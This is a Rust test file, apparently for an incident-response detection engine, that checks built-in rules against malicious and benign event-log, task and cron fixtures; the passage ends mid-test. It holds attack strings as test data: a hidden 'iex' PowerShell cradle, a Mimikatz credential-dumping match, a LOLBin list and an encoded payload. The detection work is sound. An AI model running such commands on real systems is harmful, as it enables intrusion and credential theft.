//! Detection engine on real fixtures: observations are built from every fixture through the
//! real parsers and the `irsnap::detect::adapt` adapters, then run through the built-in rules.
//!
//! Facts asserted are the ATT&CK technique a responder expects on each malicious fixture and
//! the absence of medium+ findings on benign ones. `measurement` prints detection rate and
//! false positives by severity (`cargo test detect::measurement -- --nocapture`).

use std::collections::{BTreeMap, HashMap};
use std::ops::ControlFlow;
use std::path::{Path, PathBuf};

use irsnap::detect::adapt;
use irsnap::detect::{
    Engine, EvidenceRef, Finding, Findings, Observation, ObservationKind, Severity, load_rules,
};
use irsnap::parsers::cron::{CrontabKind, parse_anacrontab, parse_crontab};
use irsnap::parsers::evtx_read::read_events;
use irsnap::parsers::exec_events::exec_event_from_raw;
use irsnap::parsers::powershell::{PsEventKind, ScriptBlockAssembler, ps_event_from_raw};
use irsnap::parsers::shell_history::{HistoryKind, parse_history};
use irsnap::parsers::systemd_unit::{parse_unit, timer_target_unit};
use irsnap::parsers::task_xml::parse_task_xml;
use irsnap::record::Sha256;
use irsnap::source::{FileSource, LiveHost, LiveSource};

use crate::harness::fixture;

// ---- fixture → observations ---------------------------------------------------------------

fn ev(member: &str, line: u64, source: &Path) -> EvidenceRef {
    EvidenceRef::new(member, line).source_path(source.display().to_string())
}

/// Every execution and PowerShell event of an EVTX file; 4104 parts reassembled.
fn evtx_observations(path: &Path) -> Vec<Observation> {
    let file = std::fs::File::open(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let sha = Sha256::digest(&std::fs::read(path).unwrap());
    let mut out = Vec::new();
    let mut assembler = ScriptBlockAssembler::new();
    let (mut exec_line, mut ps_line) = (0u64, 0u64);
    let _ = read_events(file, |raw| {
        if let Some(e) = exec_event_from_raw(&raw) {
            exec_line += 1;
            let evidence = ev("records/execution_events.jsonl", exec_line, path).sha256(sha);
            out.extend(adapt::from_exec_event(&e, evidence));
        } else if let Some(p) = ps_event_from_raw(&raw) {
            ps_line += 1;
            if p.kind == PsEventKind::ScriptBlock {
                assembler.add(p);
            } else {
                let evidence = ev("records/powershell_logs.jsonl", ps_line, path).sha256(sha);
                out.extend(adapt::from_ps_event(&p, evidence));
            }
        }
        ControlFlow::Continue(())
    });
    for (i, sb) in assembler.finish().iter().enumerate() {
        let evidence = ev("records/powershell_logs.jsonl", 100_000 + i as u64, path).sha256(sha);
        out.push(adapt::from_script_block(sb, evidence));
    }
    out
}

fn task_observations(path: &Path) -> Vec<Observation> {
    let bytes = std::fs::read(path).unwrap();
    let task = parse_task_xml(&bytes).unwrap_or_else(|e| {
        e.partial()
            .cloned()
            .unwrap_or_else(|| panic!("{}: {e}", path.display()))
    });
    let evidence = ev("records/scheduled_tasks.jsonl", 1, path).sha256(Sha256::digest(&bytes));
    adapt::from_task_definition(&task, evidence)
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out.sort();
    out
}

/// Debian's stock crontabs, anacrontab and timers (with their services from this host when it
/// has them: the fixture set holds only the .timer files).
fn linux_observations() -> Vec<Observation> {
    let root = fixture("linux");
    let mut out = Vec::new();
    for p in walk(&root) {
        let bytes = std::fs::read(&p).unwrap();
        let name = p.file_name().unwrap().to_string_lossy().to_string();
        let member = "records/scheduled_tasks.jsonl";
        if name == "anacrontab" {
            for (i, j) in parse_anacrontab(&bytes).jobs.iter().enumerate() {
                out.push(adapt::from_anacron_job(j, ev(member, i as u64 + 1, &p)));
            }
        } else if name.ends_with(".timer") {
            let timer = parse_unit(&bytes);
            let Some(spec) = &timer.timer else { continue };
            let service = timer_target_unit(&name, spec);
            let live = LiveSource::new();
            let svc = live
                .open(&Path::new("/lib/systemd/system").join(&service))
                .ok()
                .and_then(|mut f| {
                    let mut b = Vec::new();
                    std::io::Read::read_to_end(&mut f.file, &mut b).ok()?;
                    Some(parse_unit(&b))
                });
            out.extend(adapt::from_timer(
                &name,
                &timer,
                svc.as_ref(),
                ev(member, 1, &p),
            ));
        } else {
            for (i, e) in parse_crontab(&bytes, CrontabKind::System)
                .entries
                .iter()
                .enumerate()
            {
                out.push(adapt::from_cron_entry(
                    e,
                    None,
                    ev(member, i as u64 + 1, &p),
                ));
            }
        }
    }
    out
}

fn psreadline_observations() -> Vec<Observation> {
    let p =
        fixture("history/dfir-artifact-museum/BelkasoftCTF_InsiderThreat/ConsoleHost_history.txt");
    let parsed = parse_history(HistoryKind::PsReadLine, &std::fs::read(&p).unwrap());
    parsed
        .entries
        .iter()
        .map(|e| {
            adapt::from_history_entry(
                e,
                Some("user"),
                ev("records/shell_history.jsonl", e.line_number as u64, &p),
            )
        })
        .collect()
}

/// This machine's processes (with ancestry by ppid, as the processes collector records it) and
/// its sockets.
fn live_observations() -> Vec<Observation> {
    let src = LiveSource::new();
    let procs = src.processes().unwrap_or_default();
    let by_pid: HashMap<u32, &irsnap::record::ProcessRecord> =
        procs.iter().map(|p| (p.pid, p)).collect();
    let mut out = Vec::new();
    for (i, p) in procs.iter().enumerate() {
        let mut p = p.clone();
        let mut cur = p.ppid;
        while let Some(pp) = cur.and_then(|c| by_pid.get(&c)) {
            if p.ancestry.len() > 32 || p.ancestry.iter().any(|a| a.pid == pp.pid) {
                break;
            }
            p.ancestry.push(irsnap::record::Ancestor {
                pid: pp.pid,
                name: pp.name.clone(),
                image_path: pp.image_path.clone(),
            });
            cur = pp.ppid;
        }
        out.extend(adapt::from_process_record(
            &p,
            EvidenceRef::new("records/processes.jsonl", i as u64 + 1),
        ));
    }
    for (i, s) in src.connections().unwrap_or_default().iter().enumerate() {
        let Some(addr) = s.remote_address.filter(|a| !a.is_unspecified()) else {
            continue;
        };
        for pid in &s.pids {
            let image = by_pid.get(pid).and_then(|p| p.image_path.clone());
            out.push(
                Observation::new(
                    ObservationKind::NetworkConnection,
                    EvidenceRef::new("records/network.jsonl", i as u64 + 1),
                )
                .pids(Some(*pid), None)
                .image(image)
                .remote(Some(addr.to_string()), s.remote_port),
            );
        }
    }
    out
}

// ---- Atomic Red Team command extraction (no YAML crate: a small text reader) --------------

struct Atomic {
    technique: String,
    name: String,
    executor: String,
    command: String,
}

fn unquote(v: &str) -> String {
    let v = v.trim();
    if let Some(inner) = v.strip_prefix('"').and_then(|s| s.strip_suffix('"')) {
        inner.replace("\\\\", "\\").replace("\\\"", "\"")
    } else if let Some(inner) = v.strip_prefix('\'').and_then(|s| s.strip_suffix('\'')) {
        inner.replace("''", "'")
    } else {
        v.to_string()
    }
}

fn indent(l: &str) -> usize {
    l.len() - l.trim_start().len()
}

/// `- name:` tests with their input-argument defaults and `executor: command:` blocks; `#{x}`
/// placeholders are replaced by the defaults, `PathToAtomicsFolder` by Invoke-AtomicTest's
/// default install path.
fn read_atomics(path: &Path) -> Vec<Atomic> {
    let text = std::fs::read_to_string(path).unwrap();
    let technique = path.file_stem().unwrap().to_string_lossy().to_string();
    let lines: Vec<&str> = text.lines().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < lines.len() {
        let Some(name) = lines[i].strip_prefix("- name:") else {
            i += 1;
            continue;
        };
        let mut end = i + 1;
        while end < lines.len() && !lines[end].starts_with("- name:") {
            end += 1;
        }
        let body = &lines[i + 1..end];
        let mut defaults: HashMap<String, String> = HashMap::new();
        let (mut executor, mut command) = (String::new(), String::new());
        let mut section = "";
        let mut arg = String::new();
        let mut j = 0;
        while j < body.len() {
            let l = body[j];
            let t = l.trim_start();
            match indent(l) {
                2 if !t.is_empty() => section = t.split(':').next().unwrap_or(""),
                4 if section == "input_arguments" => {
                    arg = t.trim_end_matches(':').to_string();
                }
                6 if section == "input_arguments" && t.starts_with("default:") => {
                    let v = t["default:".len()..].trim();
                    let value = if v.starts_with('|') || v.starts_with('>') {
                        let mut block = Vec::new();
                        while j + 1 < body.len()
                            && (body[j + 1].trim().is_empty() || indent(body[j + 1]) >= 8)
                        {
                            j += 1;
                            block.push(body[j].trim());
                        }
                        block.join("\n").trim().to_string()
                    } else {
                        unquote(v)
                    };
                    defaults.insert(arg.clone(), value);
                }
                4 if section == "executor" && t.starts_with("name:") => {
                    executor = t["name:".len()..].trim().to_string();
                }
                4 if section == "executor" && t.starts_with("command:") => {
                    let v = t["command:".len()..].trim();
                    if v.starts_with('|') || v.starts_with('>') {
                        let mut block = Vec::new();
                        while j + 1 < body.len()
                            && (body[j + 1].trim().is_empty() || indent(body[j + 1]) >= 6)
                        {
                            j += 1;
                            block.push(body[j].get(6..).unwrap_or("").to_string());
                        }
                        command = block.join("\n").trim_end().to_string();
                    } else {
                        command = unquote(v);
                    }
                }
                _ => {}
            }
            j += 1;
        }
        for (k, v) in &defaults {
            command = command.replace(&format!("#{{{k}}}"), v);
        }
        command = command
            .replace("$PathToAtomicsFolder", "C:\\AtomicRedTeam\\atomics")
            .replace("PathToAtomicsFolder", "C:\\AtomicRedTeam\\atomics");
        out.push(Atomic {
            technique: technique.clone(),
            name: name.trim().to_string(),
            executor,
            command,
        });
        i = end;
    }
    out
}

/// Executables a PowerShell atomic line starts directly (they become child processes).
fn starts_program(line: &str) -> Option<String> {
    let l = line.trim().trim_start_matches('&').trim();
    let first = irsnap::detect::observation::first_token(l)?;
    let n = irsnap::detect::observation::image_name(&first);
    let known = [
        "rundll32",
        "regsvr32",
        "mshta",
        "cmd",
        "powershell",
        "schtasks",
        "reg",
        "wmic",
        "certutil",
        "bitsadmin",
        "msiexec",
        "cscript",
        "wscript",
        "hh",
        "wlrmdr",
        "mavinject",
    ];
    (n.ends_with(".exe") || known.contains(&irsnap::detect::observation::strip_exe(&n)))
        .then_some(first)
}

fn windows_image(first: &str) -> String {
    if first.contains('\\') {
        first.to_string()
    } else {
        let f = if first.to_ascii_lowercase().ends_with(".exe") {
            first.to_string()
        } else {
            format!("{first}.exe")
        };
        format!("C:\\Windows\\System32\\{f}")
    }
}

/// What an atomic leaves in telemetry: the executor process (or the 4104 block for
/// PowerShell) and a process event for each program a line starts.
fn atomic_observations(a: &Atomic, n: u64) -> Vec<Observation> {
    let member = format!("synthetic/atomics/{}", a.technique);
    let evd = || EvidenceRef::new(member.clone(), n).source_path(a.name.clone());
    let lines = || {
        a.command
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty() && !l.starts_with('#') && !l.starts_with("REM "))
    };
    let mut out = Vec::new();
    match a.executor.as_str() {
        "command_prompt" => {
            let cmd = "C:\\Windows\\System32\\cmd.exe";
            out.push(
                Observation::new(ObservationKind::ProcessEvent, evd())
                    .image(Some(cmd))
                    .command_line(Some(format!(
                        "cmd.exe /c {}",
                        lines().collect::<Vec<_>>().join(" & ")
                    )))
                    .parent_image(Some(
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    )),
            );
            for l in lines() {
                let Some(first) = irsnap::detect::observation::first_token(l) else {
                    continue;
                };
                out.push(
                    Observation::new(ObservationKind::ProcessEvent, evd())
                        .image(Some(windows_image(&first)))
                        .command_line(Some(l))
                        .parent_image(Some(cmd)),
                );
            }
        }
        "powershell" => {
            let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
            out.push(
                Observation::new(ObservationKind::ScriptBlock, evd())
                    .script(Some(a.command.clone()), None::<String>),
            );
            for l in lines() {
                if let Some(first) = starts_program(l) {
                    out.push(
                        Observation::new(ObservationKind::ProcessEvent, evd())
                            .image(Some(windows_image(&first)))
                            .command_line(Some(l.trim_start_matches('&').trim()))
                            .parent_image(Some(ps)),
                    );
                }
            }
        }
        "sh" | "bash" => {
            let sh = format!("/bin/{}", a.executor);
            out.push(
                Observation::new(ObservationKind::ProcessEvent, evd())
                    .image(Some(sh.clone()))
                    .command_line(Some(format!("{} -c '{}'", a.executor, a.command))),
            );
            for l in lines() {
                out.push(
                    Observation::new(ObservationKind::ProcessEvent, evd())
                        .command_with_image(Some(l))
                        .parent_image(Some(sh.clone())),
                );
            }
        }
        _ => {}
    }
    out
}

// ---- expectations ---------------------------------------------------------------------------

/// A finding technique satisfies an expected one when equal, or when either is the other's
/// parent (T1218 ↔ T1218.011) or both are sub-techniques of the same technique.
fn technique_matches(found: &str, expected: &str) -> bool {
    let base = |t: &str| t.split('.').next().unwrap_or(t).to_string();
    found == expected || base(found) == base(expected)
}

fn has_technique(findings: &Findings, expected: &[&str]) -> bool {
    findings.iter().any(|f| {
        f.techniques
            .iter()
            .any(|t| expected.iter().any(|e| technique_matches(t, e)))
    })
}

fn findings_for(obs: &[Observation]) -> Findings {
    Engine::builtin().expect("built-in rules load").run(obs)
}

fn rule_ids(f: &Findings) -> Vec<&str> {
    f.iter().map(|f| f.rule_id.as_str()).collect()
}

/// Malicious EVTX fixtures and the techniques a responder expects from each (`None`: the file
/// has no execution indicator, e.g. 4688 without command lines or task deletion only).
const MALICIOUS_EVTX: &[(&str, Option<&[&str]>)] = &[
    (
        "evtx/powershell/museum-win10-aptsimulator/Microsoft-Windows-PowerShell%4Operational.evtx",
        Some(&["T1546.003", "T1059.001"]),
    ),
    (
        "evtx/powershell/museum-win10-aptsimulator/Windows PowerShell.evtx",
        Some(&["T1059.001"]),
    ),
    (
        "evtx/powershell/museum-server2022-aptsimulator/Microsoft-Windows-PowerShell%4Operational.evtx",
        Some(&["T1059.001", "T1003.001"]),
    ),
    (
        "evtx/powershell/mdecrevoisier/ID4103-4104-Payload download via PowerShell.evtx",
        Some(&["T1059.001", "T1105"]),
    ),
    (
        "evtx/powershell/mdecrevoisier/ID800-4103-Interactive PipeShell over named pipe (server and client).evtx",
        Some(&["T1059.001"]),
    ),
    (
        "evtx/powershell/mdecrevoisier/ID4103-4104-CrackMapExec payload execution.evtx",
        Some(&["T1059.001", "T1027"]),
    ),
    (
        "evtx/powershell/mdecrevoisier/ID400-800-CrackMapExec payload execution.evtx",
        Some(&["T1059.001", "T1027"]),
    ),
    (
        "evtx/powershell/mdecrevoisier/ID800-4103-4104-PowerShell BITS job started.evtx",
        Some(&["T1197", "T1105"]),
    ),
    (
        "evtx/powershell/mdecrevoisier/ID4103-4104 - SPN discovery (moder nPowerShell).evtx",
        Some(&["T1558.003"]),
    ),
    (
        "evtx/powershell/mdecrevoisier/ID800-4103-4104-Clear event log attempt.evtx",
        Some(&["T1070.001"]),
    ),
    (
        "evtx/powershell/deepbluecli/Powershell-Invoke-Obfuscation-string-menu.evtx",
        Some(&["T1059.001", "T1027"]),
    ),
    (
        "evtx/powershell/deepbluecli/Powershell-Invoke-Obfuscation-encoding-menu.evtx",
        Some(&["T1027"]),
    ),
    (
        "evtx/powershell/evtx-attack-samples/exec_emotet_ps_4104.evtx",
        Some(&["T1059.001", "T1027"]),
    ),
    (
        "evtx/powershell/evtx-attack-samples/exec_emotet_ps_800_new-object.evtx",
        Some(&["T1059.001", "T1027"]),
    ),
    (
        "evtx/powershell/evtx-attack-samples/Powershell_4104_MiniDumpWriteDump_Lsass.evtx",
        Some(&["T1003.001"]),
    ),
    (
        "evtx/powershell/evtx-attack-samples/phish_windows_credentials_powershell_scriptblockLog_4104.evtx",
        Some(&["T1027"]),
    ),
    (
        "evtx/sysmon/museum-win10-aptsimulator/Microsoft-Windows-Sysmon%4Operational.evtx",
        Some(&["T1053.005", "T1059.001", "T1003.001"]),
    ),
    (
        "evtx/sysmon/evtx-attack-samples/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx",
        Some(&["T1218.011", "T1218.005"]),
    ),
    (
        "evtx/sysmon/evtx-attack-samples/exec_sysmon_lobin_regsvr32_sct.evtx",
        Some(&["T1218.010"]),
    ),
    (
        "evtx/sysmon/evtx-attack-samples/exec_sysmon_1_lolbin_pcalua.evtx",
        Some(&["T1202"]),
    ),
    (
        "evtx/sysmon/evtx-attack-samples/sysmon_mshta_sharpshooter_stageless_meterpreter.evtx",
        Some(&["T1218.005"]),
    ),
    (
        "evtx/sysmon/evtx-attack-samples/Sysmon_Exec_CompiledHTML.evtx",
        Some(&["T1218.001"]),
    ),
    (
        "evtx/sysmon/evtx-attack-samples/sysmon_11_1_lolbas_downldr_desktopimgdownldr.evtx",
        Some(&["T1105"]),
    ),
    (
        "evtx/sysmon/evtx-attack-samples/sysmon_1_11_rundll32_cpl_ostap.evtx",
        Some(&["T1218.011", "T1218.002", "T1204.002"]),
    ),
    (
        "evtx/sysmon/evtx-attack-samples/exec_emotet_sysmon_1.evtx",
        Some(&["T1204.002"]),
    ),
    (
        "evtx/security/museum-server2022-aptsimulator/Security.evtx",
        None,
    ),
    (
        "evtx/security/mdecrevoisier/ID4688-Encoded PowerShell MSF payload via process execution.evtx",
        Some(&["T1059.001", "T1027"]),
    ),
    (
        "evtx/security/mdecrevoisier/ID4688-Edge payload download via command.evtx",
        Some(&["T1204", "T1105"]),
    ),
    (
        "evtx/security/mdecrevoisier/ID4688-4698 Persistent scheduled task with SYSTEM privileges creation.evtx",
        Some(&["T1053.005"]),
    ),
    (
        "evtx/security/mdecrevoisier/ID4698-4699-Fast created & deleted task by ATexec (susp. arg.).evtx",
        Some(&["T1053.005", "T1059.003"]),
    ),
    (
        "evtx/security/mdecrevoisier/ID4688-Certutil download.evtx",
        Some(&["T1105", "T1140"]),
    ),
    (
        "evtx/security/deepbluecli/psattack-security.evtx",
        Some(&["T1059.001", "T1127"]),
    ),
    (
        "evtx/security/evtx-attack-samples/temp_scheduled_task_4698_4699.evtx",
        Some(&["T1053.005"]),
    ),
    (
        "evtx/sigma-regression/proc_creation_win_powershell_base64_invoke/6385697e-9f1b-40bd-8817-f4a91f40508e.evtx",
        Some(&["T1059.001", "T1027"]),
    ),
    (
        "evtx/sigma-regression/proc_creation_win_conhost_headless_powershell/056c7317-9a09-4bd4-9067-d051312752ea.evtx",
        Some(&["T1202", "T1564.003", "T1059.001"]),
    ),
    (
        "evtx/sigma-regression/proc_creation_win_hh_chm_execution/68c8acb4-1b60-4890-8e82-3ddf7a6dba84.evtx",
        Some(&["T1218.001"]),
    ),
    (
        "evtx/sigma-regression/proc_creation_win_rundll32_unc_path/5cdb711b-5740-4fb2-ba88-f7945027afac.evtx",
        Some(&["T1218.011"]),
    ),
    (
        "evtx/sigma-regression/proc_creation_win_certutil_decode/cc9cbe82-7bc0-4ef5-bc23-bbfb83947be7.evtx",
        Some(&["T1140"]),
    ),
    (
        "evtx/sigma-regression/proc_creation_win_lolbin_sftp_indirect_cmd_execution/762bb580-79b4-40f4-8b9e-9349ce1710f4.evtx",
        Some(&["T1202"]),
    ),
    (
        "evtx/sigma-regression/proc_creation_win_schtasks_delete/dbc1f800-0fe0-4bc0-9c66-292c2abe3f78.evtx",
        None,
    ),
    (
        "evtx/sigma-regression/proc_creation_win_schtasks_disable/9ac94dc8-9042-493c-ba45-3b5e7c86b980.evtx",
        None,
    ),
];

const MALICIOUS_TASKS: &[(&str, &[&str])] = &[
    (
        "tasks/dfir-artifact-museum/Win10/APTSimulatorVM/GameOver",
        &["T1053.005", "T1003.001"],
    ),
    (
        "tasks/dfir-artifact-museum/Server2022/APTSimulatorVM/falshupdate22",
        &["T1059.001", "T1053.005"],
    ),
    (
        "tasks/atomic-red-team/T1053_05_SCTASK_HIDDEN_ATTRIB.xml",
        &["T1053.005"],
    ),
];

const BENIGN_EVTX: &[&str] = &[
    "evtx/powershell/museum-win10-belkasoftctf/Windows PowerShell.evtx",
    "evtx/malformed/omerbenamram-evtx/sysmon.evtx",
    "evtx/taskscheduler/museum-win2012r2-stolenszechuan/Microsoft-Windows-TaskScheduler%4Operational.evtx",
];

fn evtx_rel(part: &str) -> &'static str {
    MALICIOUS_EVTX
        .iter()
        .map(|(r, _)| *r)
        .find(|r| r.contains(part))
        .unwrap_or_else(|| panic!("no fixture like {part}"))
}

fn benign_task_paths() -> Vec<PathBuf> {
    walk(&fixture("tasks/dfir-artifact-museum"))
        .into_iter()
        .filter(|p| !MALICIOUS_TASKS.iter().any(|(m, _)| fixture(m) == *p))
        .collect()
}

fn all_atomics() -> Vec<Atomic> {
    walk(&fixture("atomics"))
        .iter()
        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
        .flat_map(|p| read_atomics(p))
        .collect()
}

// ---- fixture facts -------------------------------------------------------------------------

#[test]
fn every_malicious_evtx_with_an_execution_indicator_fires_its_technique() {
    let mut missed = Vec::new();
    for (rel, expected) in MALICIOUS_EVTX {
        let Some(expected) = expected else { continue };
        let f = findings_for(&evtx_observations(&fixture(rel)));
        if !has_technique(&f, expected) {
            missed.push(format!(
                "{rel}: expected {expected:?}, got {:?}",
                rule_ids(&f)
            ));
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

#[test]
fn malicious_tasks_fire_and_explain() {
    for (rel, expected) in MALICIOUS_TASKS {
        let f = findings_for(&task_observations(&fixture(rel)));
        assert!(has_technique(&f, expected), "{rel}: {:?}", rule_ids(&f));
    }
    let game_over = findings_for(&task_observations(&fixture(MALICIOUS_TASKS[0].0)));
    let ids = rule_ids(&game_over);
    assert!(ids.contains(&"task-runs-from-temp"), "{ids:?}");
    assert!(ids.contains(&"credential-dumping-tools"), "{ids:?}");
    let cred = game_over
        .iter()
        .find(|f| f.rule_id == "credential-dumping-tools")
        .unwrap();
    assert_eq!(cred.severity, Severity::Critical);
    assert!(
        cred.matched
            .iter()
            .any(|m| m.value.to_lowercase().contains("sekurlsa::logonpasswords"))
    );
    // The evidence names the record, the task file and its hash.
    let e = &cred.evidence[0];
    assert_eq!(e.member, "records/scheduled_tasks.jsonl");
    assert!(e.source_path.as_deref().unwrap().ends_with("GameOver"));
    assert!(e.sha256.unwrap().to_hex().starts_with("fbab477fa514"));

    let fals = findings_for(&task_observations(&fixture(MALICIOUS_TASKS[1].0)));
    assert!(
        rule_ids(&fals).contains(&"ps-hidden-stealth-flags"),
        "{:?}",
        rule_ids(&fals)
    );
    let hidden = findings_for(&task_observations(&fixture(MALICIOUS_TASKS[2].0)));
    assert!(
        rule_ids(&hidden).contains(&"task-hidden"),
        "{:?}",
        rule_ids(&hidden)
    );
}

#[test]
fn stock_windows_tasks_raise_nothing_above_informational() {
    for p in benign_task_paths() {
        let f = findings_for(&task_observations(&p));
        let loud: Vec<&Finding> = f
            .iter()
            .filter(|f| f.severity > Severity::Informational)
            .collect();
        assert!(
            loud.is_empty(),
            "{}: {:?}",
            p.display(),
            loud.iter().map(|f| &f.rule_id).collect::<Vec<_>>()
        );
    }
}

#[test]
fn debian_crontabs_and_timers_raise_nothing() {
    let obs = linux_observations();
    assert!(
        obs.iter()
            .filter(|o| o.kind == ObservationKind::CronCommand)
            .count()
            >= 10
    );
    let f = findings_for(&obs);
    assert!(f.is_empty(), "{:?}", rule_ids(&f));
}

#[test]
fn benign_powershell_log_has_no_medium_or_worse() {
    let obs = evtx_observations(&fixture(BENIGN_EVTX[0]));
    assert!(obs.len() > 50, "{}", obs.len());
    let f = findings_for(&obs);
    let loud: Vec<(&str, &str)> = f
        .iter()
        .filter(|f| f.severity >= Severity::Medium)
        .map(|f| (f.rule_id.as_str(), f.summary.as_str()))
        .collect();
    assert!(loud.is_empty(), "{loud:?}");
}

#[test]
fn chocolatey_cradle_in_history_is_a_medium_finding() {
    let f = findings_for(&psreadline_observations());
    let cradle = f
        .iter()
        .find(|f| f.rule_id == "ps-download-execute-interactive")
        .expect("the chocolatey install line is a cradle");
    assert_eq!(cradle.severity, Severity::Medium);
    assert_eq!(cradle.evidence[0].line, 1);
    assert!(
        f.iter().all(|f| f.severity <= Severity::Medium),
        "{:?}",
        rule_ids(&f)
    );
}

#[test]
fn sigma_base64_invoke_is_decoded_and_rechecked() {
    let rel = evtx_rel("powershell_base64_invoke");
    let f = findings_for(&evtx_observations(&fixture(rel)));
    let enc = f
        .iter()
        .find(|f| f.rule_id == "ps-encoded-command")
        .expect("encoded command");
    assert_eq!(enc.severity, Severity::High);
    // The finding shows the decoded script next to the original.
    let decoded = enc
        .decoded
        .as_ref()
        .expect("decoded payload on the finding");
    assert!(
        decoded.decoded.contains("Invoke-WmiMethod"),
        "{}",
        decoded.decoded
    );
    assert!(
        decoded
            .original
            .starts_with("SQBuAHYAbwBrAGUALQBXAG0AaQBNAGUAdABoAG8AZAAgAC0AUABh")
    );
}

#[test]
fn msf_service_and_4688_payload_decode_through_cmd() {
    let rel = "evtx/security/mdecrevoisier/ID4688-Encoded PowerShell MSF payload via process execution.evtx";
    let f = findings_for(&evtx_observations(&fixture(rel)));
    let ids = rule_ids(&f);
    for want in [
        "ps-hidden-stealth-flags",
        "ps-compressed-payload",
        "service-runs-interpreter",
    ] {
        assert!(ids.contains(&want), "{want}: {ids:?}");
    }
}

#[test]
fn invoke_obfuscation_launchers_are_recognised() {
    let f = findings_for(&evtx_observations(&fixture(evtx_rel(
        "Invoke-Obfuscation-string",
    ))));
    assert!(
        rule_ids(&f).contains(&"ps-obfuscated-invoke"),
        "{:?}",
        rule_ids(&f)
    );
    let f = findings_for(&evtx_observations(&fixture(evtx_rel("4104-CrackMapExec"))));
    assert!(
        rule_ids(&f).contains(&"ps-obfuscated-invoke"),
        "{:?}",
        rule_ids(&f)
    );
}

#[test]
fn written_then_run_joins_a_temp_file_to_its_task_and_process() {
    let sha = Sha256::digest(b"payload");
    let temp = Observation::new(
        ObservationKind::TempFile,
        EvidenceRef::new("records/temp_scripts.jsonl", 7),
    )
    .file(
        Some("C:\\Users\\bob\\AppData\\Local\\Temp\\upd.ps1"),
        Some(sha),
    );
    let task = Observation::new(
        ObservationKind::TaskAction,
        EvidenceRef::new("records/scheduled_tasks.jsonl", 3),
    )
    .command_with_image(Some("powershell.exe -File %TEMP%\\upd.ps1"));
    let unrelated = Observation::new(
        ObservationKind::Process,
        EvidenceRef::new("records/processes.jsonl", 9),
    )
    .image(Some("C:\\Windows\\System32\\notepad.exe"))
    .command_line(Some("notepad.exe C:\\Users\\bob\\notes\\upd.ps1"));
    let f = findings_for(&[temp, task, unrelated]);
    let wr: Vec<&Finding> = f
        .iter()
        .filter(|f| f.rule_id == "corr-written-then-run")
        .collect();
    assert_eq!(wr.len(), 1, "{:?}", rule_ids(&f));
    assert_eq!(wr[0].severity, Severity::High);
    assert!(wr[0].techniques.contains(&"T1059.001".to_string()));
    assert!(wr[0].techniques.contains(&"T1053.005".to_string()));
    let members: Vec<(&str, u64)> = wr[0]
        .evidence
        .iter()
        .map(|e| (e.member.as_str(), e.line))
        .collect();
    assert_eq!(
        members,
        vec![
            ("records/scheduled_tasks.jsonl", 3),
            ("records/temp_scripts.jsonl", 7)
        ]
    );
    assert_eq!(wr[0].evidence[1].sha256, Some(sha));
}

#[test]
fn script_host_with_public_connection_is_execution_to_c2() {
    let proc_ = Observation::new(
        ObservationKind::Process,
        EvidenceRef::new("records/processes.jsonl", 2),
    )
    .pids(Some(4242), Some(1))
    .image(Some("C:\\Windows\\System32\\wscript.exe"))
    .command_line(Some("wscript.exe C:\\Users\\bob\\Downloads\\invoice.js"));
    let public = Observation::new(
        ObservationKind::NetworkConnection,
        EvidenceRef::new("records/network.jsonl", 5),
    )
    .pids(Some(4242), None)
    .remote(Some("198.51.99.9"), Some(443));
    let private = Observation::new(
        ObservationKind::NetworkConnection,
        EvidenceRef::new("records/network.jsonl", 6),
    )
    .pids(Some(4242), None)
    .remote(Some("10.0.0.5"), Some(445));
    let f = findings_for(&[proc_, public, private]);
    let c2: Vec<&Finding> = f
        .iter()
        .filter(|f| f.rule_id == "corr-exec-to-c2")
        .collect();
    assert_eq!(c2.len(), 1, "{:?}", rule_ids(&f));
    assert_eq!(c2[0].severity, Severity::High);
    assert_eq!(c2[0].evidence.len(), 2);
    assert!(c2[0].summary.contains("198.51.99.9:443"));
    // The script itself fires too: a .js from Downloads.
    assert!(rule_ids(&f).contains(&"lolbin-script-host"));
}

#[test]
fn office_to_script_host_to_public_address_is_the_user_action_chain() {
    let ev = |line: u64, guid: &str, parent: &str, image: &str| {
        Observation::new(
            ObservationKind::ProcessEvent,
            EvidenceRef::new("records/execution_events.jsonl", line),
        )
        .guids(Some(guid.into()), Some(parent.into()))
        .image(Some(image))
    };
    let word = ev(
        1,
        "{1}",
        "{0}",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    );
    let cmd = ev(2, "{2}", "{1}", r"C:\Windows\System32\cmd.exe")
        .command_line(Some("cmd.exe /c powershell -nop -w hidden -c iex $x"));
    let ps = ev(
        3,
        "{3}",
        "{2}",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    )
    .command_line(Some("powershell -nop -w hidden -c iex $x"));
    // Sysmon 3 of the PowerShell process: no parent logged, only its ProcessGuid.
    let conn = |line: u64, addr: &str| {
        Observation::new(
            ObservationKind::NetworkConnection,
            EvidenceRef::new("records/execution_events.jsonl", line),
        )
        .guids(Some("{3}".into()), None)
        .image(Some(
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        ))
        .remote(Some(addr), Some(443))
    };
    let f = findings_for(&[word, cmd, ps, conn(4, "198.51.99.9"), conn(5, "10.1.2.3")]);
    let chain: Vec<&Finding> = f
        .iter()
        .filter(|f| f.rule_id == "corr-user-action-to-c2")
        .collect();
    assert_eq!(chain.len(), 1, "{:?}", rule_ids(&f));
    assert_eq!(chain[0].severity, Severity::Critical);
    assert!(chain[0].techniques.iter().any(|t| t == "T1204.002"));
    assert!(
        chain[0].summary.starts_with("winword.exe"),
        "{}",
        chain[0].summary
    );
    // Without a user app in the chain it stays the plain execution → C2 join.
    let svc = ev(1, "{1}", "{0}", r"C:\Windows\System32\services.exe");
    let ps = ev(
        3,
        "{3}",
        "{1}",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    );
